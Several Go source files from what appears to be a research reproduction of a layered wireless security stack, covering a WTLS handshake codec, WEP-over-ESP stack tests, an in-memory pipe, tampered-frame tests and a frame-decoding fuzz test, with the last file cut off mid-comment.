	b.addUint16(protocolVersion)
	b.addRaw(m.random)
	b.addBytes8(m.sessionID)
	b.addUint16(uint16(len(m.suites)))
	for _, s := range m.suites {
		b.addUint16(s)
	}
	return wrapHandshake(typeClientHello, b.bytes())
}

func parseClientHello(body []byte) (*clientHello, error) {
	p := parser{buf: body}
	var ver uint16
	m := &clientHello{}
	if !p.readUint16(&ver) || ver != protocolVersion {
		return nil, errors.New("wtls: bad client hello version")
	}
	if !p.readRaw(randomLen, &m.random) || !p.readBytes8(&m.sessionID) {
		return nil, errors.New("wtls: malformed client hello")
	}
	var n uint16
	if !p.readUint16(&n) {
		return nil, errors.New("wtls: malformed client hello suites")
	}
	for i := 0; i < int(n); i++ {
		var id uint16
		if !p.readUint16(&id) {
			return nil, errors.New("wtls: truncated suite list")
		}
		m.suites = append(m.suites, id)
	}
	if !p.empty() {
		return nil, errors.New("wtls: trailing bytes in client hello")
	}
	return m, nil
}

type serverHello struct {
	random    []byte
	sessionID []byte
	suite     uint16
	resumed   bool
}

func (m *serverHello) marshal() []byte {
	var b builder
	b.addUint16(protocolVersion)
	b.addRaw(m.random)
	b.addBytes8(m.sessionID)
	b.addUint16(m.suite)
	if m.resumed {
		b.addUint8(1)
	} else {
		b.addUint8(0)
	}
	return wrapHandshake(typeServerHello, b.bytes())
}

func parseServerHello(body []byte) (*serverHello, error) {
	p := parser{buf: body}
	var ver uint16
	m := &serverHello{}
	var res uint8
	if !p.readUint16(&ver) || ver != protocolVersion ||
		!p.readRaw(randomLen, &m.random) || !p.readBytes8(&m.sessionID) ||
		!p.readUint16(&m.suite) || !p.readUint8(&res) || !p.empty() {
		return nil, errors.New("wtls: malformed server hello")
	}
	m.resumed = res == 1
	return m, nil
}

type certificateMsg struct {
	cert []byte // marshaled Certificate
}

func (m *certificateMsg) marshal() []byte {
	var b builder
	b.addBytes16(m.cert)
	return wrapHandshake(typeCertificate, b.bytes())
}

func parseCertificateMsg(body []byte) (*certificateMsg, error) {
	p := parser{buf: body}
	m := &certificateMsg{}
	if !p.readBytes16(&m.cert) || !p.empty() {
		return nil, errors.New("wtls: malformed certificate message")
	}
	return m, nil
}

// serverKeyExchange carries ephemeral DH parameters signed by the server
// key (DHE suites only).
type serverKeyExchange struct {
	p, g, ys  *big.Int
	signature []byte
}

// signedParams returns the byte string the signature covers, bound to both
// hello randoms to prevent replay.
func (m *serverKeyExchange) signedParams(clientRandom, serverRandom []byte) []byte {
	var b builder
	b.addRaw(clientRandom)
	b.addRaw(serverRandom)
	b.addBytes16(m.p.Bytes())
	b.addBytes16(m.g.Bytes())
	b.addBytes16(m.ys.Bytes())
	return b.bytes()
}

func (m *serverKeyExchange) marshal() []byte {
	var b builder
	b.addBytes16(m.p.Bytes())
	b.addBytes16(m.g.Bytes())
	b.addBytes16(m.ys.Bytes())
	b.addBytes16(m.signature)
	return wrapHandshake(typeServerKeyExchange, b.bytes())
}

func parseServerKeyExchange(body []byte) (*serverKeyExchange, error) {
	p := parser{buf: body}
	var pb, gb, yb, sig []byte
	if !p.readBytes16(&pb) || !p.readBytes16(&gb) || !p.readBytes16(&yb) ||
		!p.readBytes16(&sig) || !p.empty() {
		return nil, errors.New("wtls: malformed server key exchange")
	}
	return &serverKeyExchange{
		p:         new(big.Int).SetBytes(pb),
		g:         new(big.Int).SetBytes(gb),
		ys:        new(big.Int).SetBytes(yb),
		signature: sig,
	}, nil
}

type clientKeyExchange struct {
	payload []byte // RSA-encrypted premaster, or client DH public value
}

func (m *clientKeyExchange) marshal() []byte {
	var b builder
	b.addBytes16(m.payload)
	return wrapHandshake(typeClientKeyExchange, b.bytes())
}

func parseClientKeyExchange(body []byte) (*clientKeyExchange, error) {
	p := parser{buf: body}
	m := &clientKeyExchange{}
	if !p.readBytes16(&m.payload) || !p.empty() {
		return nil, errors.New("wtls: malformed client key exchange")
	}
	return m, nil
}

type finishedMsg struct {
	verify []byte
}

func (m *finishedMsg) marshal() []byte {
	var b builder
	b.addRaw(m.verify)
	return wrapHandshake(typeFinished, b.bytes())
}

func parseFinished(body []byte) (*finishedMsg, error) {
	if len(body) != finishedLen {
		return nil, errors.New("wtls: malformed finished")
	}
	return &finishedMsg{verify: append([]byte{}, body...)}, nil
}

// wrapHandshake frames a handshake body with its type and 24-bit length.
func wrapHandshake(msgType uint8, body []byte) []byte {
	var b builder
	b.addUint8(msgType)
	b.addUint24(len(body))
	b.addRaw(body)
	return b.bytes()
}

// splitHandshake removes the handshake frame, returning type and body.
func splitHandshake(msg []byte) (uint8, []byte, error) {
	p := parser{buf: msg}
	var t uint8
	var n int
	if !p.readUint8(&t) || !p.readUint24(&n) {
		return 0, nil, errors.New("wtls: truncated handshake header")
	}
	if n > maxHandshakeMsg {
		return 0, nil, fmt.Errorf("wtls: handshake message length %d exceeds %d", n, maxHandshakeMsg)
	}
	var body []byte
	if !p.readRaw(n, &body) || !p.empty() {
		return 0, nil, fmt.Errorf("wtls: handshake length mismatch (type %d)", t)
	}
	return t, body, nil
}
