package stack

import (
	"bytes"
	"hash"
	"io"
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/arq"
	"repro/internal/chaos"
	"repro/internal/cost"
	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
	"repro/internal/esp"
	"repro/internal/wep"
)

// bufferedPipe is a minimal in-memory duplex transport for tests.
func bufferedPipe() (io.ReadWriter, io.ReadWriter) {
	ab := &half{}
	ab.c = sync.NewCond(&ab.mu)
	ba := &half{}
	ba.c = sync.NewCond(&ba.mu)
	return &end{r: ba, w: ab}, &end{r: ab, w: ba}
}

type half struct {
	mu  sync.Mutex
	c   *sync.Cond
	buf bytes.Buffer
}

type end struct{ r, w *half }

func (e *end) Write(p []byte) (int, error) {
	e.w.mu.Lock()
	defer e.w.mu.Unlock()
	n, _ := e.w.buf.Write(p)
	e.w.c.Broadcast()
	return n, nil
}

func (e *end) Read(p []byte) (int, error) {
	e.r.mu.Lock()
	defer e.r.mu.Unlock()
	for e.r.buf.Len() == 0 {
		e.r.c.Wait()
	}
	return e.r.buf.Read(p)
}

func newESPPair(t *testing.T, seedTx, seedRx string) *ESPPair {
	t.Helper()
	mk := func(seed string) *esp.SA {
		block, err := des.NewTripleCipher(bytes.Repeat([]byte{9}, 24))
		if err != nil {
			t.Fatal(err)
		}
		sa, err := esp.NewSA(7, block, func() hash.Hash { return sha1.New() },
			[]byte("mac-key"), prng.NewDRBG([]byte(seed)))
		if err != nil {
			t.Fatal(err)
		}
		return sa
	}
	return &ESPPair{Out: mk(seedTx), In: mk(seedRx)}
}

// buildPeer assembles a WEP+ESP stack on one transport end. Both peers
// must push layers in the same order.
func buildPeer(t *testing.T, transport io.ReadWriter, espTxSeed, espRxSeed string) *Stack {
	t.Helper()
	s := New(transport)
	wepEP, err := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Push("wep", wepEP, cost.InstrPerByte(cost.RC4)+4); err != nil {
		t.Fatal(err)
	}
	if err := s.Push("esp", newESPPair(t, espTxSeed, espRxSeed), cost.BulkInstrPerByte(cost.DES3, cost.SHA1)); err != nil {
		t.Fatal(err)
	}
	return s
}

// TestLayeredRoundtrip sends application data through ESP-over-WEP in both
// directions — the paper's multi-layer PDA scenario without the TLS top.
func TestLayeredRoundtrip(t *testing.T) {
	a, b := bufferedPipe()
	alice := buildPeer(t, a, "a2b", "b2a")
	bob := buildPeer(t, b, "b2a", "a2b")

	msg := []byte("VPN-bound datagram through WEP+ESP")
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(bob.Top(), buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- io.ErrUnexpectedEOF
			return
		}
		_, err := bob.Top().Write(buf)
		done <- err
	}()
	if _, err := alice.Top().Write(msg); err != nil {
		t.Fatal(err)
	}
	back := make([]byte, len(msg))
	if _, err := io.ReadFull(alice.Top(), back); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, msg) {
		t.Fatal("echo mismatch")
	}
}

func TestAccountingAndExpansion(t *testing.T) {
	a, b := bufferedPipe()
	alice := buildPeer(t, a, "x", "y")
	bob := buildPeer(t, b, "y", "x")

	msg := bytes.Repeat([]byte{0x55}, 1000)
	go func() {
		buf := make([]byte, len(msg))
		io.ReadFull(bob.Top(), buf) //nolint:errcheck
	}()
	if _, err := alice.Top().Write(msg); err != nil {
		t.Fatal(err)
	}

	rep := alice.Report()
	if len(rep) != 2 || rep[0].Name != "wep" || rep[1].Name != "esp" {
		t.Fatalf("report shape wrong: %+v", rep)
	}
	espStats := rep[1]
	if espStats.PayloadOut != 1000 {
		t.Fatalf("esp payload out = %d", espStats.PayloadOut)
	}
	if espStats.FrameOut <= espStats.PayloadOut {
		t.Fatal("esp adds no framing overhead?")
	}
	wepStats := rep[0]
	// The WEP layer carries the ESP frames, so its payload equals ESP's
	// frame output.
	if wepStats.PayloadOut != espStats.FrameOut {
		t.Fatalf("wep payload (%d) != esp frames (%d)", wepStats.PayloadOut, espStats.FrameOut)
	}
	if alice.WireBytesOut() <= 1000 {
		t.Fatal("wire bytes should exceed payload (layer expansion)")
	}
	if alice.TotalInstr() <= 0 {
		t.Fatal("no instruction cost accrued")
	}
	// ESP (3DES+SHA) must dominate WEP (RC4+CRC) in modeled cost.
	if espStats.Instr <= wepStats.Instr {
		t.Fatal("3DES+SHA layer should out-cost RC4 layer")
	}
}

func TestEmptyStackTopIsTransport(t *testing.T) {
	a, _ := bufferedPipe()
	s := New(a)
	if s.Top() != a {
		t.Fatal("empty stack should expose raw transport")
	}
	if s.WireBytesOut() != 0 || s.TotalInstr() != 0 {
		t.Fatal("empty stack has nonzero accounting")
	}
}

func TestNewLayerValidation(t *testing.T) {
	a, _ := bufferedPipe()
	if _, err := NewLayer("x", nil, &ESPPair{}, 1); err == nil {
		t.Error("accepted nil transport")
	}
	if _, err := NewLayer("x", a, nil, 1); err == nil {
		t.Error("accepted nil protector")
	}
}

func TestCorruptFrameSurfacesError(t *testing.T) {
	a, b := bufferedPipe()
	alice := buildPeer(t, a, "x", "y")
	// Bob shares the WEP key but has a *different* ESP MAC key.
	bobStack := New(b)
	wepEP, _ := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
	bobStack.Push("wep", wepEP, 1) //nolint:errcheck
	block, _ := des.NewTripleCipher(bytes.Repeat([]byte{9}, 24))
	badSA, _ := esp.NewSA(7, block, func() hash.Hash { return sha1.New() },
		[]byte("WRONG-mac"), prng.NewDRBG([]byte("y")))
	bobStack.Push("esp", &ESPPair{Out: badSA, In: badSA}, 1) //nolint:errcheck

	errCh := make(chan error, 1)
	go func() {
		buf := make([]byte, 16)
		_, err := bobStack.Top().Read(buf)
		errCh <- err
	}()
	if _, err := alice.Top().Write([]byte("to the wrong peer")); err != nil {
		t.Fatal(err)
	}
	if err := <-errCh; err == nil {
		t.Fatal("mismatched ESP keys should fail authentication")
	}
}

func TestLargeWriteFragments(t *testing.T) {
	a, b := bufferedPipe()
	alice := buildPeer(t, a, "x", "y")
	bob := buildPeer(t, b, "y", "x")
	big := make([]byte, maxFrame*2+123)
	for i := range big {
		big[i] = byte(i)
	}
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(big))
		if _, err := io.ReadFull(bob.Top(), buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, big) {
			done <- io.ErrUnexpectedEOF
			return
		}
		done <- nil
	}()
	if _, err := alice.Top().Write(big); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
}

// TestPipe exercises the exported in-memory duplex transport.
func TestPipe(t *testing.T) {
	a, b := Pipe()
	go func() {
		if _, err := a.Write([]byte("ping")); err != nil {
			t.Error(err)
		}
	}()
	buf := make([]byte, 4)
	if _, err := io.ReadFull(b, buf); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(buf, []byte("ping")) {
		t.Fatalf("got %q", buf)
	}
	// Close ends the write direction: the peer drains then sees EOF.
	if _, err := b.Write([]byte("pong")); err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 4)
	if _, err := io.ReadFull(a, got); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Read(got); err != io.EOF {
		t.Fatalf("want EOF after close, got %v", err)
	}
	// Writing into the closed direction fails.
	if _, err := b.Write([]byte("x")); err != io.ErrClosedPipe {
		t.Fatalf("want ErrClosedPipe, got %v", err)
	}
}

func TestLayerName(t *testing.T) {
	a, _ := Pipe()
	wepEP, _ := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
	l, err := NewLayer("link", a, wepEP, 1)
	if err != nil {
		t.Fatal(err)
	}
	if l.Name() != "link" {
		t.Fatalf("Name = %q", l.Name())
	}
}

func TestPushOntoNilProtector(t *testing.T) {
	a, _ := Pipe()
	s := New(a)
	if err := s.Push("bad", nil, 1); err == nil {
		t.Fatal("pushed nil protector")
	}
}

// TestReadFrameErrors: truncated frames surface as errors, not hangs.
func TestReadFrameErrors(t *testing.T) {
	if _, err := readFrame(bytes.NewReader([]byte{0x00})); err == nil {
		t.Fatal("accepted truncated header")
	}
	if _, err := readFrame(bytes.NewReader([]byte{0x00, 0x05, 1, 2})); err == nil {
		t.Fatal("accepted truncated body")
	}
	var buf bytes.Buffer
	if err := writeFrame(&buf, make([]byte, 0x10000)); err == nil {
		t.Fatal("accepted oversized frame")
	}
}

// TestFrameBoundSymmetric: MaxWireFrame is enforced identically outbound
// and inbound — a header advertising more than MaxWireFrame is rejected
// before any allocation, with an error naming the bound.
func TestFrameBoundSymmetric(t *testing.T) {
	// Outbound: exactly MaxWireFrame is fine, one more is not.
	var buf bytes.Buffer
	if err := writeFrame(&buf, make([]byte, MaxWireFrame)); err != nil {
		t.Fatalf("rejected frame at the bound: %v", err)
	}
	if err := writeFrame(&buf, make([]byte, MaxWireFrame+1)); err == nil ||
		!strings.Contains(err.Error(), "MaxWireFrame") {
		t.Fatalf("oversized outbound frame: %v", err)
	}
	// Inbound: the frame written at the bound reads back.
	frame, err := readFrame(&buf)
	if err != nil || len(frame) != MaxWireFrame {
		t.Fatalf("frame at bound did not read back: %d, %v", len(frame), err)
	}
	// Inbound: a header claiming MaxWireFrame+1 (encodable in the 2-byte
	// length but over the documented bound) is a framing error.
	over := MaxWireFrame + 1
	hdr := []byte{byte(over >> 8), byte(over)}
	if _, err := readFrame(bytes.NewReader(append(hdr, make([]byte, over)...))); err == nil ||
		!strings.Contains(err.Error(), "MaxWireFrame") {
		t.Fatalf("oversized inbound frame: %v", err)
	}
	// A sealed maximum-size payload chunk stays within the wire bound for
	// the stack's own layers (seal overhead < maxSealOverhead).
	if maxFrame+maxSealOverhead != MaxWireFrame {
		t.Fatalf("chunk bound %d + overhead %d != wire bound %d", maxFrame, maxSealOverhead, MaxWireFrame)
	}
}

// TestPipeCloseUnblocksOwnReader is the regression test for the hang
// where Close only closed the write half: a Read blocked on the same
// endpoint stayed blocked forever.
func TestPipeCloseUnblocksOwnReader(t *testing.T) {
	a, _ := Pipe()
	errCh := make(chan error, 1)
	started := make(chan struct{})
	go func() {
		close(started)
		_, err := a.Read(make([]byte, 1))
		errCh <- err
	}()
	<-started
	time.Sleep(5 * time.Millisecond) // let the reader block
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-errCh:
		if err != io.EOF {
			t.Fatalf("want io.EOF from own closed end, got %v", err)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("Read still blocked after local Close")
	}
}

// TestPipeCloseDrainsOwnReader: data buffered before a local Close is
// still readable; EOF comes after the drain.
func TestPipeCloseDrainsOwnReader(t *testing.T) {
	a, b := Pipe()
	if _, err := b.Write([]byte("tail")); err != nil {
		t.Fatal(err)
	}
	if err := a.Close(); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 4)
	if _, err := io.ReadFull(a, buf); err != nil || !bytes.Equal(buf, []byte("tail")) {
		t.Fatalf("drain failed: %q, %v", buf, err)
	}
	if _, err := a.Read(buf); err != io.EOF {
		t.Fatalf("want EOF after drain, got %v", err)
	}
	// The peer's writes into the closed end now fail rather than
	// accumulating into a buffer nobody will read.
	if _, err := b.Write([]byte("x")); err != io.ErrClosedPipe {
		t.Fatalf("want ErrClosedPipe for peer write, got %v", err)
	}
}

// TestStackOverARQOverChaos runs the full layered hierarchy over a lossy
// link: WEP+ESP protection above an ARQ reliability layer above a
// fault-injecting channel. The protection layers never see the loss.
func TestStackOverARQOverChaos(t *testing.T) {
	a, b := Pipe()
	linkA, err := chaos.New(a, chaos.Config{Seed: 21, Drop: 0.1, BER: 1e-5})
	if err != nil {
		t.Fatal(err)
	}
	linkB, err := chaos.New(b, chaos.Config{Seed: 22, Drop: 0.1, BER: 1e-5})
	if err != nil {
		t.Fatal(err)
	}
	acfg := arq.Config{RetransmitTimeout: 5 * time.Millisecond, MaxRetries: 40}
	build := func(link *chaos.FaultyTransport, txSeed, rxSeed string) (*Stack, *arq.Endpoint) {
		s := New(link)
		ep, err := s.PushARQ("arq", acfg, 1)
		if err != nil {
			t.Fatal(err)
		}
		wepEP, err := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.Push("wep", wepEP, cost.InstrPerByte(cost.RC4)+4); err != nil {
			t.Fatal(err)
		}
		if err := s.Push("esp", newESPPair(t, txSeed, rxSeed), cost.BulkInstrPerByte(cost.DES3, cost.SHA1)); err != nil {
			t.Fatal(err)
		}
		return s, ep
	}
	alice, epA := build(linkA, "a2b", "b2a")
	bob, epB := build(linkB, "b2a", "a2b")
	defer epA.Close()
	defer epB.Close()

	msg := bytes.Repeat([]byte("lossy-link datagram "), 200) // 4 KB
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(bob.Top(), buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- io.ErrUnexpectedEOF
			return
		}
		done <- nil
	}()
	if _, err := alice.Top().Write(msg); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}

	rep := alice.Report()
	if len(rep) != 3 || rep[0].Name != "arq" || rep[1].Name != "wep" || rep[2].Name != "esp" {
		t.Fatalf("report shape wrong: %+v", rep)
	}
	st := epA.Stats()
	if st.Retransmits == 0 {
		t.Fatalf("10%% loss produced no retransmits: %+v", st)
	}
	// The wire figure the radio would be charged for includes the
	// retransmissions: it must exceed the first-transmission bytes.
	if alice.WireBytesOut() != st.BytesOut {
		t.Fatalf("WireBytesOut %d != arq bytes out %d", alice.WireBytesOut(), st.BytesOut)
	}
	if st.BytesOut <= st.PayloadOut {
		t.Fatal("wire bytes should exceed accepted payload")
	}
}
