package stack

import (
	"bytes"
	"io"
	"sync"
)

// Pipe returns two connected in-memory duplex endpoints with unbounded
// buffering: writes never block, reads block until data arrives. It
// stands in for the radio link in simulations and examples — unlike
// net.Pipe, crossing flights (e.g. an alert racing a handshake message)
// cannot deadlock.
func Pipe() (a, b io.ReadWriteCloser) {
	ab := newHalfDuplex()
	ba := newHalfDuplex()
	return &duplexEnd{r: ba, w: ab}, &duplexEnd{r: ab, w: ba}
}

type halfDuplex struct {
	mu     sync.Mutex
	cond   *sync.Cond
	buf    bytes.Buffer
	closed bool
}

func newHalfDuplex() *halfDuplex {
	h := &halfDuplex{}
	h.cond = sync.NewCond(&h.mu)
	return h
}

func (h *halfDuplex) write(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.closed {
		return 0, io.ErrClosedPipe
	}
	n, _ := h.buf.Write(p)
	h.cond.Broadcast()
	return n, nil
}

func (h *halfDuplex) read(p []byte) (int, error) {
	h.mu.Lock()
	defer h.mu.Unlock()
	for h.buf.Len() == 0 && !h.closed {
		h.cond.Wait()
	}
	if h.buf.Len() == 0 {
		return 0, io.EOF
	}
	return h.buf.Read(p)
}

func (h *halfDuplex) close() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.closed = true
	h.cond.Broadcast()
}

type duplexEnd struct {
	r, w *halfDuplex
}

func (e *duplexEnd) Read(p []byte) (int, error)  { return e.r.read(p) }
func (e *duplexEnd) Write(p []byte) (int, error) { return e.w.write(p) }

// Close closes both halves of this end: the peer's reads drain buffered
// data then see EOF, this end's own blocked reads unblock the same way,
// and writes into either closed half fail with io.ErrClosedPipe.
func (e *duplexEnd) Close() error {
	e.w.close()
	e.r.close()
	return nil
}
