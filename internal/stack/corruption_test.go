package stack

import (
	"bytes"
	"errors"
	"hash"
	"io"
	"strings"
	"testing"

	"repro/internal/crypto/des"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
	"repro/internal/esp"
	"repro/internal/wep"
)

// wireTap is a one-directional transport: the sender's layer writes into
// it, the test mutates the captured frames, and the receiver's layer
// reads the mutated wire image back.
type wireTap struct {
	bytes.Buffer
}

// frames splits the captured wire image into framed units.
func (w *wireTap) frames(t *testing.T) [][]byte {
	t.Helper()
	r := bytes.NewReader(w.Bytes())
	var out [][]byte
	for r.Len() > 0 {
		f, err := readFrame(r)
		if err != nil {
			t.Fatalf("capture not frame-aligned: %v", err)
		}
		out = append(out, f)
	}
	return out
}

// replay re-serializes frames into a readable transport.
func replay(t *testing.T, frames [][]byte) io.ReadWriter {
	t.Helper()
	var buf bytes.Buffer
	for _, f := range frames {
		if err := writeFrame(&buf, f); err != nil {
			t.Fatal(err)
		}
	}
	return &struct {
		io.Reader
		io.Writer
	}{&buf, io.Discard}
}

func newWEP(t *testing.T, key byte) Protector {
	t.Helper()
	ep, err := wep.NewEndpoint([]byte{key, 2, 3, 4, 5}, wep.IVSequential)
	if err != nil {
		t.Fatal(err)
	}
	return ep
}

func newESP(t *testing.T, macKey string) Protector {
	t.Helper()
	block, err := des.NewTripleCipher(bytes.Repeat([]byte{9}, 24))
	if err != nil {
		t.Fatal(err)
	}
	sa, err := esp.NewSA(7, block, func() hash.Hash { return sha1.New() },
		[]byte(macKey), prng.NewDRBG([]byte("corrupt")))
	if err != nil {
		t.Fatal(err)
	}
	return &ESPPair{Out: sa, In: sa}
}

// TestLayerOpenFailures drives each protection layer's Read error path
// with corrupted inbound frames: the error must name the layer, and the
// connection must stay usable for the next (intact) frame.
func TestLayerOpenFailures(t *testing.T) {
	cases := []struct {
		name    string
		layer   string
		sender  func(t *testing.T) Protector
		reader  func(t *testing.T) Protector
		corrupt func(frame []byte) []byte // applied to the first frame
		// usableAfter: the second, untouched frame still delivers.
		usableAfter bool
	}{
		{
			name: "wep truncated", layer: "wep",
			sender: func(t *testing.T) Protector { return newWEP(t, 1) },
			reader: func(t *testing.T) Protector { return newWEP(t, 1) },
			corrupt: func(f []byte) []byte {
				return f[:wep.IVLen+1] // below IV+ICV minimum
			},
			usableAfter: true,
		},
		{
			name: "wep flipped byte", layer: "wep",
			sender: func(t *testing.T) Protector { return newWEP(t, 1) },
			reader: func(t *testing.T) Protector { return newWEP(t, 1) },
			corrupt: func(f []byte) []byte {
				g := append([]byte(nil), f...)
				g[len(g)-1] ^= 0x80 // inside ciphertext/ICV
				return g
			},
			usableAfter: true,
		},
		{
			name: "wep wrong key", layer: "wep",
			sender:  func(t *testing.T) Protector { return newWEP(t, 1) },
			reader:  func(t *testing.T) Protector { return newWEP(t, 99) },
			corrupt: func(f []byte) []byte { return f },
			// Every frame fails under the wrong key; the connection fails
			// cleanly rather than recovering.
			usableAfter: false,
		},
		{
			name: "esp truncated", layer: "esp",
			sender: func(t *testing.T) Protector { return newESP(t, "mac-key") },
			reader: func(t *testing.T) Protector { return newESP(t, "mac-key") },
			corrupt: func(f []byte) []byte {
				return f[:6] // below SPI+seq minimum
			},
			usableAfter: true,
		},
		{
			name: "esp flipped byte", layer: "esp",
			sender: func(t *testing.T) Protector { return newESP(t, "mac-key") },
			reader: func(t *testing.T) Protector { return newESP(t, "mac-key") },
			corrupt: func(f []byte) []byte {
				g := append([]byte(nil), f...)
				g[len(g)/2] ^= 0x01
				return g
			},
			usableAfter: true,
		},
		{
			name: "esp wrong mac key", layer: "esp",
			sender:      func(t *testing.T) Protector { return newESP(t, "mac-key") },
			reader:      func(t *testing.T) Protector { return newESP(t, "WRONG") },
			corrupt:     func(f []byte) []byte { return f },
			usableAfter: false,
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			// Sender seals two frames onto the tap.
			tap := &wireTap{}
			sendLayer, err := NewLayer(tc.layer, tap, tc.sender(t), 1)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := sendLayer.Write([]byte("first frame")); err != nil {
				t.Fatal(err)
			}
			if _, err := sendLayer.Write([]byte("second frame")); err != nil {
				t.Fatal(err)
			}
			frames := tap.frames(t)
			if len(frames) != 2 {
				t.Fatalf("expected 2 captured frames, got %d", len(frames))
			}
			frames[0] = tc.corrupt(frames[0])

			recvLayer, err := NewLayer(tc.layer, replay(t, frames), tc.reader(t), 1)
			if err != nil {
				t.Fatal(err)
			}
			buf := make([]byte, 64)
			_, err = recvLayer.Read(buf)
			if err == nil {
				t.Fatal("corrupted frame opened successfully")
			}
			if !strings.Contains(err.Error(), "stack/"+tc.layer+": open:") {
				t.Fatalf("error does not wrap the layer name: %v", err)
			}
			// The layer must not deliver garbage into its read buffer.
			n, err2 := recvLayer.Read(buf)
			if tc.usableAfter {
				if err2 != nil {
					t.Fatalf("connection unusable after one bad frame: %v", err2)
				}
				if string(buf[:n]) != "second frame" {
					t.Fatalf("post-corruption delivery wrong: %q", buf[:n])
				}
			} else if err2 == nil {
				t.Fatal("wrong-key connection delivered data")
			}
		})
	}
}

// TestCorruptFrameInLayeredStack: the same property inside a full duplex
// WEP+ESP stack — a flipped wire byte surfaces as a wrapped layer error on
// the reader, and the next frame still flows.
func TestCorruptFrameInLayeredStack(t *testing.T) {
	tap := &wireTap{}
	alice := New(tap)
	wepA, err := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
	if err != nil {
		t.Fatal(err)
	}
	if err := alice.Push("wep", wepA, 1); err != nil {
		t.Fatal(err)
	}
	if err := alice.Push("esp", newESPPair(t, "x", "y"), 1); err != nil {
		t.Fatal(err)
	}
	if _, err := alice.Top().Write([]byte("tampered in flight")); err != nil {
		t.Fatal(err)
	}
	if _, err := alice.Top().Write([]byte("clean")); err != nil {
		t.Fatal(err)
	}

	frames := tap.frames(t)
	// Each ESP frame crosses the WEP layer as two WEP frames (the 2-byte
	// length header, then the body). Corrupt the WEP frame sealing the
	// first ESP body — a whole framing unit is lost, so the next message
	// stays parseable. (Losing a length header alone desynchronizes the
	// upper framing; recovering from that is the ARQ layer's job.)
	if len(frames) != 4 {
		t.Fatalf("expected 4 wire frames, got %d", len(frames))
	}
	frames[1][wep.IVLen+2] ^= 0x10

	bob := New(replay(t, frames))
	wepB, err := wep.NewEndpoint([]byte{1, 2, 3, 4, 5}, wep.IVSequential)
	if err != nil {
		t.Fatal(err)
	}
	if err := bob.Push("wep", wepB, 1); err != nil {
		t.Fatal(err)
	}
	if err := bob.Push("esp", newESPPair(t, "y", "x"), 1); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	_, err = bob.Top().Read(buf)
	if err == nil {
		t.Fatal("tampered frame delivered")
	}
	if !strings.Contains(err.Error(), "stack/wep: open:") || !errors.Is(err, wep.ErrBadICV) {
		t.Fatalf("want wrapped WEP ICV error, got %v", err)
	}
	n, err := bob.Top().Read(buf)
	if err != nil {
		t.Fatalf("stack unusable after tampered frame: %v", err)
	}
	if string(buf[:n]) != "clean" {
		t.Fatalf("got %q", buf[:n])
	}
}
