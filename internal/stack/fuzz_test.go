package stack

import (
	"bytes"
	"testing"
)

// FuzzReadFrame: arbitrary wire bytes through the framing codec must
// yield a frame or an error, never a panic or a hang; decoded frames must
// re-encode to the bytes consumed.
func FuzzReadFrame(f *testing.F) {
	var seed bytes.Buffer
	if err := writeFrame(&seed, []byte("a sealed frame")); err != nil {
		f.Fatal(err)
	}
	f.Add(seed.Bytes())
	f.Add([]byte{})
	f.Add([]byte{0x00})
	f.Add([]byte{0x00, 0x00})          // empty frame
	f.Add([]byte{0xff, 0xff, 1, 2, 3}) // oversized length claim
	f.Add([]byte{0x00, 0x05, 1, 2})    // truncated body
	f.Add([]byte{0x80, 0x01})          // MaxWireFrame+1 header
	f.Fuzz(func(t *testing.T, data []byte) {
		frame, err := readFrame(bytes.NewReader(data))
		if err != nil {
			return
		}
		if len(frame) > MaxWireFrame {
			t.Fatalf("readFrame returned %d bytes over MaxWireFrame", len(frame))
		}
		var out bytes.Buffer
		if err := writeFrame(&out, frame); err != nil {
			t.Fatalf("decoded frame does not re-encode: %v", err)
		}
		if !bytes.Equal(out.Bytes(), data[:len(frame)+2]) {
			t.Fatal("re-encoded frame differs from consumed bytes")
		}
	})
}
