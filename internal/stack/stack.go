// Package stack composes the paper's layered security hierarchy
// (Figure 5) into one appliance-side protocol stack: a raw transport at
// the bottom, then framed protection layers (WEP-style link security,
// ESP-style network security), with a WTLS connection typically run over
// the top by the caller.
//
// Section 3.1's motivating example — a wireless-LAN PDA that needs WEP at
// the link layer, IPSec for its VPN and SSL for secure browsing, all at
// once — is exactly a three-deep Stack. Each layer accounts its payload
// bytes, frame expansion and modeled instruction cost so that the platform
// (internal/core) can price the whole hierarchy.
package stack

import (
	"errors"
	"fmt"
	"io"

	"repro/internal/arq"
	"repro/internal/esp"
)

// Protector seals payloads into frames and opens frames back into
